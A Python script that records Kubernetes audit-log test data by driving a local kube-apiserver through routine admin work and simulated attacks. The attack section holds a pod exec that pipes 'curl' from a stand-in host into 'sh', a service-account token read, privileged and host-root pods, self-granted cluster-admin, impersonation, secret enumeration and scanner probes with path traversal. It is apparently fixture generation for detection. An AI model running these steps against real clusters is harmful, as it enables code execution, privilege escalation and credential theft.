#!/usr/bin/env python3
"""Records the audit log of a real kube-apiserver.

Needs    Go 1.26 and the Go module proxy, openssl, python3; 3 GB of disk and
         about ten minutes for the first build.
Installs a kube-apiserver with an embedded etcd into the cache (programs.py).
Writes   schemas/sources/kubernetes.audit/testdata/audit.ndjson         file backend, one event a line
         schemas/sources/kubernetes.audit/testdata/webhook.json         webhook backend, one POST body (EventList)

Policy: _kube-apiserver/audit-policy.yaml. There is no kubelet and no controller:
pods never start. A stand-in for the kubelet takes exec connections, so that an
allowed exec is logged with code 101 as in a cluster. Addresses come from
X-Forwarded-For, which the API server puts before the peer's address.

Selection afterwards: everything that people and service accounts did, and the
first SYSTEM_EVENTS events of the API server itself. Nothing is replaced; the
tokens are random and never logged.
"""

import base64
import http.client
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import threading
import time

import common
import programs
import receiver

SYSTEM_EVENTS = 120
HERE = common.REPO / "scripts" / "record" / "_kube-apiserver"

TOKENS = {  # user -> groups
    "admin@example.com": "system:masters",
    "alice@example.com": "ml-engineers",
    "bob@example.com": "contractors",
}


def kubelet(cert, key):
    """Accepts exec connections: switches protocols, then hangs up."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    listener = socket.create_server(("127.0.0.1", 0))

    def serve():
        while True:
            try:
                raw, _ = listener.accept()
            except OSError:
                return
            try:
                conn = ctx.wrap_socket(raw, server_side=True)
                head = conn.recv(65536)
                proto = b"SPDY/3.1" if b"spdy" in head.lower() else b"websocket"
                conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: " + proto
                             + b"\r\nX-Stream-Protocol-Version: v4.channel.k8s.io\r\n\r\n")
                time.sleep(0.2)
                conn.close()
            except OSError:
                raw.close()

    threading.Thread(target=serve, daemon=True).start()
    return listener


WEBHOOK = """
apiVersion: v1
kind: Config
clusters: [{{name: vagus, cluster: {{server: "http://127.0.0.1:{sink}/v1/ingest/kubernetes.audit"}}}}]
users: [{{name: vagus, user: {{token: TOKEN}}}}]
contexts: [{{name: vagus, context: {{cluster: vagus, user: vagus}}}}]
current-context: vagus
"""


class Client:
    def __init__(self, port, tokens):
        self.port, self.tokens = port, tokens
        self.ctx = ssl._create_unverified_context()

    def call(self, user, method, path, body=None, addr="192.0.2.10", ua="kubectl/v1.36.1 (linux/amd64) kubernetes/0000000",
             headers=None, content="application/json"):
        conn = http.client.HTTPSConnection("127.0.0.1", self.port, context=self.ctx, timeout=20)
        h = {"User-Agent": ua, "X-Forwarded-For": addr, "Accept": "application/json", **(headers or {})}
        if user:
            h["Authorization"] = "Bearer " + self.tokens.get(user, user)
        data = None
        if body is not None:
            data, h["Content-Type"] = json.dumps(body), content
        try:
            conn.request(method, path, data, h)
            resp = conn.getresponse()
            status, raw = resp.status, b"" if resp.status == 101 else resp.read()
            try:
                return status, json.loads(raw)
            except ValueError:
                return status, raw  # a watch answers with several objects, /metrics with text
        finally:
            conn.close()

    def upgrade(self, user, path, verb="POST", addr="198.51.100.23", **kw):
        proto = {"Connection": "Upgrade", "Upgrade": "SPDY/3.1", "X-Stream-Protocol-Version": "v4.channel.k8s.io"}
        return self.call(user, verb, path, addr=addr, headers=proto, **kw)[0]


def pod(name, image="registry.example.com/trainer:1.4", **spec):
    c = {"name": "main", "image": image, "command": ["python", "train.py"], **spec.pop("container", {})}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": {"app": name}},
            "spec": {"containers": [c], "automountServiceAccountToken": False, **spec}}


def named(kind, name, api="v1", **rest):
    return {"apiVersion": api, "kind": kind, "metadata": {"name": name, **rest.pop("meta", {})}, **rest}


RBAC = "rbac.authorization.k8s.io/v1"
RBAC_PATH = "/apis/rbac.authorization.k8s.io/v1"


def binding(kind, name, role_kind, role, subject):
    return named(kind, name, RBAC, roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role},
                 subjects=[subject])


def user(name):
    return {"kind": "User", "name": name, "apiGroup": "rbac.authorization.k8s.io"}


def prepare(c, kubelet_port):
    """An administrator sets up two namespaces, a node and people's rights."""
    a = "admin@example.com"
    c.call(a, "GET", "/version")
    c.call(a, "POST", "/api/v1/namespaces", named("Namespace", "ml-train", meta={
        "labels": {"pod-security.kubernetes.io/enforce": "baseline", "pod-security.kubernetes.io/warn": "restricted"}}))
    c.call(a, "POST", "/api/v1/namespaces", named("Namespace", "ml-infra"))
    c.call(a, "POST", "/api/v1/nodes", named("Node", "gpu-node-1"))
    c.call(a, "PUT", "/api/v1/nodes/gpu-node-1/status", named("Node", "gpu-node-1", status={
        "addresses": [{"type": "InternalIP", "address": "127.0.0.1"}], "capacity": {"nvidia.com/gpu": "8"},
        "daemonEndpoints": {"kubeletEndpoint": {"Port": kubelet_port}}}))
    for ns, sa in [("ml-train", "agent"), ("ml-train", "trainer"), ("ml-infra", "deployer")]:
        c.call(a, "POST", f"/api/v1/namespaces/{ns}/serviceaccounts", named("ServiceAccount", sa))
    for name in ["hub-token", "registry-login"]:
        c.call(a, "POST", "/api/v1/namespaces/ml-train/secrets", named("Secret", name, stringData={"value": "synthetic"}))
    c.call(a, "POST", "/api/v1/namespaces/ml-train/configmaps", named("ConfigMap", "train-config", data={"epochs": "3"}))
    c.call(a, "POST", "/api/v1/namespaces/ml-train/pods", pod("trainer-0", nodeName="gpu-node-1", container={
        "resources": {"limits": {"nvidia.com/gpu": "8"}}, "env": [{"name": "HF_HOME", "value": "/models"}]}))
    c.call(a, "POST", "/api/v1/namespaces/ml-train/pods", pod("vllm-0", "registry.example.com/vllm:0.11", nodeName="gpu-node-1"))
    c.call(a, "POST", f"{RBAC_PATH}/namespaces/ml-train/roles", named("Role", "operator", RBAC, rules=[
        {"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list", "watch", "create", "delete"]},
        {"apiGroups": [""], "resources": ["pods/exec", "pods/attach", "pods/portforward"], "verbs": ["create", "get"]},
        {"apiGroups": [""], "resources": ["pods/ephemeralcontainers"], "verbs": ["patch", "update"]}]))
    c.call(a, "POST", f"{RBAC_PATH}/namespaces/ml-train/rolebindings",
           binding("RoleBinding", "alice-operator", "Role", "operator", user("alice@example.com")))
    c.call(a, "POST", f"{RBAC_PATH}/namespaces/ml-train/roles", named("Role", "secret-reader", RBAC, rules=[
        {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}]))
    c.call(a, "POST", f"{RBAC_PATH}/namespaces/ml-train/rolebindings", binding(
        "RoleBinding", "agent-secrets", "Role", "secret-reader",
        {"kind": "ServiceAccount", "name": "agent", "namespace": "ml-train"}))
    status, made = c.call(a, "POST", "/api/v1/namespaces/ml-train/serviceaccounts/agent/token", {
        "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 3600}})
    if status == 201:
        c.tokens["agent"] = made["status"]["token"]


def daily(c):
    al = "alice@example.com"
    for _ in range(8):
        c.call(al, "GET", "/api/v1/namespaces/ml-train/pods?limit=500", addr="192.0.2.20")
    c.call(al, "GET", "/api/v1/namespaces/ml-train/pods/trainer-0", addr="192.0.2.20")
    c.call(al, "GET", "/api/v1/namespaces/ml-train/pods?watch=1&timeoutSeconds=1", addr="192.0.2.20")
    c.call(al, "GET", "/api/v1/namespaces/ml-train/pods/none", addr="192.0.2.20")
    c.call(al, "POST", "/api/v1/namespaces/ml-train/pods", pod("job-1"), addr="192.0.2.20")
    c.call(al, "POST", "/api/v1/namespaces/ml-train/pods?dryRun=All", pod("job-2"), addr="192.0.2.20")
    c.call(al, "DELETE", "/api/v1/namespaces/ml-train/pods/job-1", addr="192.0.2.20")
    deploy = named("Deployment", "rag-web", "apps/v1", spec={
        "replicas": 2, "selector": {"matchLabels": {"app": "rag"}}, "template": {
            "metadata": {"labels": {"app": "rag"}}, "spec": pod("x")["spec"]}})
    a = "admin@example.com"
    c.call(a, "POST", "/apis/apps/v1/namespaces/ml-train/deployments", deploy, ua="argocd/v3.1")
    c.call(a, "PATCH", "/apis/apps/v1/namespaces/ml-train/deployments/rag-web", {"spec": {"replicas": 3}},
           content="application/merge-patch+json", ua="argocd/v3.1")
    c.call(a, "GET", "/apis/apps/v1/deployments", ua="argocd/v3.1")
    c.call("agent", "GET", "/api/v1/namespaces/ml-train/secrets/hub-token", addr="10.20.3.14", ua="agent/1.0 python-client/34")


def attacks(c):
    a, al, bob = "admin@example.com", "alice@example.com", "bob@example.com"
    ex = "/api/v1/namespaces/ml-train/pods/trainer-0/exec"
    print("exec", c.upgrade(al, ex + "?command=sh&container=main&stdin=true&stdout=true&tty=true"))
    print("exec", c.upgrade(al, ex + "?command=sh&command=-c&command=curl+http%3A%2F%2F198.51.100.66%2Fx+%7C+sh&container=main&stderr=true"))
    c.upgrade(al, ex + "?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=main")
    c.upgrade(al, "/api/v1/namespaces/ml-train/pods/vllm-0/exec?command=bash&container=main&tty=true", verb="GET")
    c.upgrade(al, "/api/v1/namespaces/ml-train/pods/vllm-0/attach?container=main")
    c.upgrade(al, "/api/v1/namespaces/ml-train/pods/vllm-0/portforward?ports=8000")
    print("exec refused", c.upgrade(bob, ex + "?command=sh&container=main"))
    c.call(al, "POST", ex + "?command=sh&container=main", addr="198.51.100.23")  # no upgrade: 400
    bad = {"securityContext": {"privileged": True}}
    print("privileged refused", c.call(al, "POST", "/api/v1/namespaces/ml-train/pods", pod("debug", container=bad), addr="198.51.100.23")[0])
    print("privileged accepted", c.call(a, "POST", "/api/v1/namespaces/ml-infra/pods", pod("debug", container=bad))[0])
    c.call(a, "POST", "/api/v1/namespaces/ml-infra/pods", pod(
        "node-shell", "registry.example.com/busybox:1", hostPID=True, hostNetwork=True,
        volumes=[{"name": "host", "hostPath": {"path": "/"}}], container={"volumeMounts": [{"name": "host", "mountPath": "/host"}]}))
    c.call(al, "POST", "/api/v1/namespaces/ml-train/pods", pod("host-net", hostNetwork=True), addr="198.51.100.23")
    c.call(al, "POST", "/api/v1/namespaces/ml-infra/pods", pod("escape", container=bad), addr="198.51.100.23")
    c.call(al, "PATCH", "/api/v1/namespaces/ml-train/pods/vllm-0/ephemeralcontainers", {"spec": {"ephemeralContainers": [
        {"name": "dbg", "image": "registry.example.com/netshoot:1", "targetContainerName": "main"}]}},
        content="application/strategic-merge-patch+json", addr="198.51.100.23")
    for path in ["/api/v1/secrets", "/api/v1/namespaces/ml-train/secrets", "/api/v1/namespaces/kube-system/secrets",
                 "/api/v1/namespaces/ml-infra/secrets", "/api/v1/namespaces/ml-train/secrets/hub-token", "/api/v1/configmaps"] * 2:
        c.call(al, "GET", path, addr="198.51.100.23", ua="python-requests/2.32.4")
    for path in ["/api/v1/namespaces/ml-train/secrets", "/api/v1/secrets?limit=500",
                 "/api/v1/namespaces/ml-train/secrets/registry-login", "/api/v1/nodes"]:
        c.call("agent", "GET", path, addr="203.0.113.50", ua="curl/8.15.0")
    c.call(a, "GET", "/api/v1/secrets?limit=500")
    c.call(a, "GET", "/api/v1/namespaces/ml-train/secrets/hub-token")
    c.call(al, "POST", f"{RBAC_PATH}/clusterrolebindings", binding(
        "ClusterRoleBinding", "alice-root", "ClusterRole", "cluster-admin", user(al)), addr="198.51.100.23")
    c.call(a, "POST", f"{RBAC_PATH}/clusterroles", named("ClusterRole", "everything", RBAC, rules=[
        {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]))
    c.call(a, "POST", f"{RBAC_PATH}/clusterrolebindings", binding(
        "ClusterRoleBinding", "deployer-admin", "ClusterRole", "cluster-admin",
        {"kind": "ServiceAccount", "name": "deployer", "namespace": "ml-infra"}))
    c.call(a, "POST", f"{RBAC_PATH}/clusterrolebindings", binding(
        "ClusterRoleBinding", "open-door", "ClusterRole", "view",
        {"kind": "Group", "name": "system:unauthenticated", "apiGroup": "rbac.authorization.k8s.io"}))
    c.call(a, "DELETE", f"{RBAC_PATH}/clusterrolebindings/open-door")
    c.call(al, "POST", "/api/v1/namespaces/ml-infra/serviceaccounts/deployer/token", {
        "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}, addr="198.51.100.23")
    c.call(a, "POST", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", named(
        "MutatingWebhookConfiguration", "sidecar", "admissionregistration.k8s.io/v1", webhooks=[{
            "name": "inject.example.com", "clientConfig": {"url": "https://hook.example.com/mutate"}, "sideEffects": "None",
            "failurePolicy": "Ignore", "admissionReviewVersions": ["v1"], "namespaceSelector": {"matchLabels": {"inject": "yes"}},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]}]))
    c.call(a, "POST", "/apis/batch/v1/namespaces/ml-infra/cronjobs", named("CronJob", "sync", "batch/v1", spec={
        "schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {**pod("x")["spec"], "restartPolicy": "Never"}}}}}))
    c.call(a, "GET", "/api/v1/namespaces/kube-system/secrets", headers={"Impersonate-User": "bob@example.com", "Impersonate-Group": "contractors"})
    c.call(bob, "GET", "/api/v1/pods", addr="203.0.113.7", headers={"Impersonate-User": "system:admin"})
    c.call(a, "GET", "/api/v1/nodes/gpu-node-1/proxy/runningpods/")
    for path in ["/api/v1/pods", "/api/v1/secrets", "/apis", "/version", "/metrics", "/api/v1/namespaces/default/pods/x/exec?command=id",
                 "/healthz", "/.env", "/api/v1/namespaces/..%2f/pods"]:
        c.call(None, "GET", path, addr="203.0.113.99", ua="Mozilla/5.0 zgrab/0.x")
    for _ in range(3):
        c.call("not-a-token", "GET", "/api/v1/pods", addr="203.0.113.99", ua="curl/8.15.0")
    c.call(al, "GET", "/api/v1/namespaces/ml-train/pods", addr="192.0.2.1, 203.0.113.5", ua="a\"b\\c \u00e9")
    c.call(a, "DELETE", "/api/v1/namespaces/ml-train/pods/trainer-0?gracePeriodSeconds=0")
    c.call(a, "DELETE", "/api/v1/namespaces/ml-infra/pods")


def main():
    binary = programs.kube_apiserver()
    work = common.cache_dir("kube-run")
    shutil.rmtree(work)
    work.mkdir()
    port, etcd, peer, sink = (common.free_port() for _ in range(4))
    box = receiver.Receiver(sink)
    (work / "webhook.yaml").write_text(WEBHOOK.format(sink=sink))
    subprocess.run(["openssl", "genrsa", "-out", work / "sa.key", "2048"], check=True, capture_output=True)
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=kubelet",
                    "-keyout", work / "k.key", "-out", work / "k.pem"], check=True, capture_output=True)
    tokens = {u: base64.urlsafe_b64encode(os.urandom(24)).decode() for u in TOKENS}
    (work / "tokens.csv").write_text("".join(f'{tokens[u]},{u},uid-{u.split("@")[0]},"{g}"\n' for u, g in TOKENS.items()))
    node = kubelet(work / "k.pem", work / "k.key")
    args = [binary, f"--etcd-servers=http://127.0.0.1:{etcd}", f"--secure-port={port}", "--bind-address=127.0.0.1",
            "--advertise-address=192.0.2.100", f"--cert-dir={work}/certs", "--service-cluster-ip-range=10.96.0.0/24",
            "--service-account-issuer=https://kubernetes.default.svc", f"--service-account-key-file={work}/sa.key",
            f"--service-account-signing-key-file={work}/sa.key", f"--token-auth-file={work}/tokens.csv",
            "--authorization-mode=Node,RBAC", "--allow-privileged=true", "--disable-admission-plugins=ServiceAccount",
            f"--audit-policy-file={HERE}/audit-policy.yaml", f"--audit-log-path={work}/audit.log",
            f"--audit-webhook-config-file={work}/webhook.yaml", "--audit-webhook-batch-max-size=10",
            "--audit-webhook-batch-max-wait=1s"]
    env = {**os.environ, "ETCD_DIR": str(work / "etcd"), "ETCD_CLIENT_URL": f"http://127.0.0.1:{etcd}",
           "ETCD_PEER_URL": f"http://127.0.0.1:{peer}"}
    with open(work / "server.log", "wb") as log:
        proc = subprocess.Popen(args, env=env, stdout=log, stderr=log)
        try:
            common.wait_port(port, 120, proc)
            c = Client(port, tokens)
            for _ in range(120):  # RBAC's own roles are written after the port opens
                if c.call("admin@example.com", "GET", "/readyz", ua="recorder-probe")[0] == 200:
                    break
                time.sleep(0.5)
            prepare(c, node.getsockname()[1])
            time.sleep(1)  # RBAC reads its rules from a watch
            daily(c)
            attacks(c)
            time.sleep(1)
        finally:
            common.stop(proc, signal.SIGTERM, 90)
            node.close()
            box.stop()
    kept, system = [], 0
    for line in (work / "audit.log").read_bytes().splitlines():
        event = json.loads(line)
        if event.get("userAgent") == "recorder-probe":
            continue
        if event["user"].get("username", "").startswith("system:apiserver"):
            system += 1
            if system > SYSTEM_EVENTS:
                continue
        kept.append(line)
    out = common.testdata("kubernetes.audit")
    common.write(out / "audit.ndjson", b"\n".join(kept) + b"\n")
    # The batch with the allowed exec shows most.
    common.write(out / "webhook.json", next(b for _, _, b in box.bodies if b"/exec?command=sh" in b))


if __name__ == "__main__":
    main()
